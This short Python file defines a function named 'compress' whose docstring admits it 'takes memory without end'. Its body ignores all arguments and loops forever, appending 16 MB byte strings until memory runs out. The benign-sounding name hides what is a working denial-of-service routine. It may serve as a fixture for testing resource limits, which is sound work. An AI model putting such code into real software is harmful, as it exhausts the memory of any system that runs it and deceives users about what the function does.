"""Takes memory without end, a bit at a time."""

from __future__ import annotations

from typing import Any


def compress(*_: Any, **__: Any) -> None:
    taken = []
    while True:
        taken.append(b"x" * 16_000_000)
